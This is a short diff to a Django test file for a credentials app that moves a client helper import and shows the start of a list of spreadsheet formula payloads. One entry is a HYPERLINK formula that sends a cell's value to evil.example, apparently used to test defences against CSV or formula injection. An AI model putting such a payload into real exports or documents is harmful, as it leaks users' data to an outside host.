@@ -11,7 +11,7 @@ from django.test import Client
 from django.urls import reverse
 
 from credentials.models import Actor, AuditEvent, LongTermCredential, Registry, User
-from tests.conftest import client_for
+from tests.helpers import client_for
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
